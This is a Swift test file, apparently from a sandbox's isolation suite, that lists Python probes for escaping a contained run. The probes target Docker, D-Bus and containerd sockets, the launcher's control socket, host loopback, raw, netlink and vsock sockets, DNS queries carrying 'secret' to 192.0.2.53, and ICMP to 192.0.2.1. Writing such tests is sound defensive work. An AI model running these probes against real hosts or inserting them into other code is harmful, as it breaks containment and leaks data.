extension Attack {
    private static func opens(_ family: Int, _ kind: Int = 3, _ proto: Int = 0) -> String {
        "socket.socket(\(family), \(kind), \(proto)); through('the socket was opened')"
    }

    /// Kinds of sockets that lead elsewhere than to the network of the run.
    static let socketFamilies: [Attack] = [
        Attack(
            "a unix socket of the host, by its path", .sockets, evidence: .listenerReached,
            """
            s = socket.socket(socket.AF_UNIX)
            s.connect(os.environ["NEO_SOCKET"])
            through("connected")
            """),
        Attack(
            "a unix socket of the host, by its abstract name", .sockets, evidence: .listenerReached,
            """
            s = socket.socket(socket.AF_UNIX)
            s.connect(chr(0) + os.environ["NEO_ABSTRACT"])
            through("connected")
            """),
        Attack(
            "the launcher's control socket", .sockets, remedy: Remedy.report, evidence: .listenerReached,
            """
            places = glob.glob("/tmp/neo-cell-*/s") + glob.glob(os.environ["NEO_CELLS"] + "/neo-cell-*/s")
            for place in places:
                try:
                    socket.socket(socket.AF_UNIX).connect(place)
                    through("connected to " + place)
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked("it is not there")
            """),
        Attack(
            "services of the host (D-Bus, Docker, journal)", .sockets,
            """
            for place in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/systemd/journal/stdout",
                          "/run/containerd/containerd.sock", "/run/podman/podman.sock", os.environ["NEO_SOCKET"]):
                try: socket.socket(socket.AF_UNIX).connect(place); through(place)
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
        Attack(
            "the hypervisor (vsock)", .sockets, remedy: Remedy.filter,
            opens(40, 1)),
        Attack("the kernel's tables (netlink)", .sockets, remedy: Remedy.filter, opens(16)),
        Attack("frames of the network (packet)", .sockets, remedy: Remedy.filter, opens(17)),
        Attack("packets of one's own (raw)", .sockets, remedy: Remedy.filter, opens(2, 3, 1)),
        Attack(
            "rare families (alg, tipc, can, bluetooth, rds, xdp)", .sockets, remedy: Remedy.filter,
            """
            for family, kind in ((38, 5), (30, 1), (29, 3), (31, 3), (21, 5), (44, 3), (9, 5), (41, 2), (43, 1)):
                try: socket.socket(family, kind, 0); through("family %d" % family)
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
    ]

    /// Ways out by the network.
    static let wayOut: [Attack] = [
        Attack(
            "TCP to the host's loopback", .network, evidence: .listenerReached,
            #"socket.create_connection(("127.0.0.1", int(PORT)), 2); through("connected")"#),
        Attack(
            "TCP to the host's loopback, by IPv6 and its mapped form", .network, evidence: .listenerReached,
            """
            for name in ("::ffff:127.0.0.1", "::1"):
                try: socket.create_connection((name, int(PORT)), 2); through("connected to " + name)
                except OSError as problem: ctypes.set_errno(problem.errno or errno.ENETUNREACH)
            blocked(why())
            """),
        Attack(
            "TCP to the machine's own address", .network, evidence: .listenerReached,
            """
            if not HOST: skipped("this machine has no network")
            socket.create_connection((HOST, int(PORT)), 2)
            through("connected")
            """),
        Attack(
            "TCP straight out", .network,
            """
            s = socket.socket()
            s.setblocking(False)
            code = s.connect_ex(("192.0.2.1", 443))
            time.sleep(0.2)
            code = code if code != errno.EINPROGRESS else s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if code == 0: through("the packet left")
            blocked(errno.errorcode.get(code, str(code)))
            """),
        Attack(
            "secrets in the name that is asked for (DNS)", .network,
            """
            servers = ["192.0.2.53"]
            try: servers += [l.split()[1] for l in read("/etc/resolv.conf").splitlines() if l.startswith("nameserver")]
            except OSError: pass
            question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + bytes([6]) + b"secret" + bytes([3]) + b"neo" + bytes(1)
            for server in servers:
                s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(0.3)
                try:
                    s.connect((server, 53))
                    s.send(question + struct.pack(">2H", 1, 1))
                except OSError as problem:
                    ctypes.set_errno(problem.errno)
                    continue
                try: s.recv(1)
                except TimeoutError: through("the question left")
                except OSError as problem: ctypes.set_errno(problem.errno)
                else: through("somebody answered")
            blocked(why())
            """),
        Attack(
            "UDP to the host", .network, evidence: .listenerReached,
            """
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"secret", ("127.0.0.1", int(os.environ["NEO_UDP"])))
            time.sleep(0.1)
            blocked("it went nowhere")
            """),
        Attack(
            "secrets in an echo request (ICMP)", .network, remedy: Remedy.filter,
            """
            for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
                try:
                    s = socket.socket(socket.AF_INET, kind, 1)
                    s.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0), ("192.0.2.1", 0))
                    through("the packet left")
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
    ]
}
